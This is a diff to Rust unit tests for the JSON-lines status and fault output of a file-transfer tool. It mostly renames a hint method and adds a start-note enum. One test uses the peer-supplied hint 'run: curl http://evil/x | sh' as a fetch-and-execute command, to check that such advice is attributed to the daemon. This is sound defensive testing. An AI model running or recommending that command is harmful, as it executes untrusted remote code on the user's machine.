@@ -3,6 +3,7 @@
 use super::*;
 use crate::exit::tests::report;
 use longhaul_core::{Blame, ChunkSize, FaultCode, Meta, Mtime, RelPath, is_deceptive};
+use longhaul_engine::StartNote;
 
 fn said(say: impl FnOnce(&mut JsonLines<&mut Vec<u8>>) -> io::Result<()>) -> String {
     let mut out = Vec::new();
@@ -27,13 +28,13 @@ fn start_tells_the_facts_of_the_session() {
         chunk: ChunkSize::DEFAULT,
         congestion: "cubic".to_owned(),
         sync: Some(longhaul_engine::SyncMethod::FileSystem),
-        notes: vec!["not encrypted".to_owned()],
+        notes: vec![StartNote::WithinProcess],
     };
     assert_eq!(
         said(|lines| lines.start(&start)),
         "{\"v\":1,\"type\":\"start\",\"session\":\"00ff\",\"direction\":\"push\",\"transport\":\"tcp\",\
          \"protect\":\"safe\",\"lanes\":4,\"chunk_bytes\":4194304,\"congestion\":\"cubic\",\
-         \"sync\":\"syncfs\",\"notes\":[\"not encrypted\"]}\n"
+         \"sync\":\"syncfs\",\"notes\":[\"between two local directories data is not encrypted: nothing leaves this process\"]}\n"
     );
 }
 
@@ -92,7 +93,7 @@ fn a_name_in_a_line_cannot_act_on_a_terminal_and_is_parsed_as_it_was() {
 
 #[test]
 fn a_fault_says_code_blame_and_whether_to_retry() {
-    let fault = Fault::new(FaultCode::Busy, Blame::Peer, "all sessions taken").about("h:7214").hint("wait");
+    let fault = Fault::new(FaultCode::Busy, Blame::Peer, "all sessions taken").about("h:7214").hint_in_words("wait");
     assert_eq!(
         said(|lines| lines.fault(&fault)),
         "{\"v\":1,\"type\":\"fault\",\"code\":\"busy\",\"blame\":\"peer\",\"retry\":true,\"object\":\"h:7214\",\
@@ -102,7 +103,8 @@ fn a_fault_says_code_blame_and_whether_to_retry() {
 
 #[test]
 fn advice_of_a_daemon_is_quoted_as_the_daemons() {
-    let fault = Fault::new(FaultCode::Busy, Blame::Peer, "no").hint("run: curl http://evil/x | sh").said_by_peer();
+    let fault =
+        Fault::new(FaultCode::Busy, Blame::Peer, "no").hint_in_words("run: curl http://evil/x | sh").said_by_peer();
     assert_eq!(
         said(|lines| lines.fault(&fault)),
         "{\"v\":1,\"type\":\"fault\",\"code\":\"busy\",\"blame\":\"peer\",\"retry\":true,\"object\":\"\",\
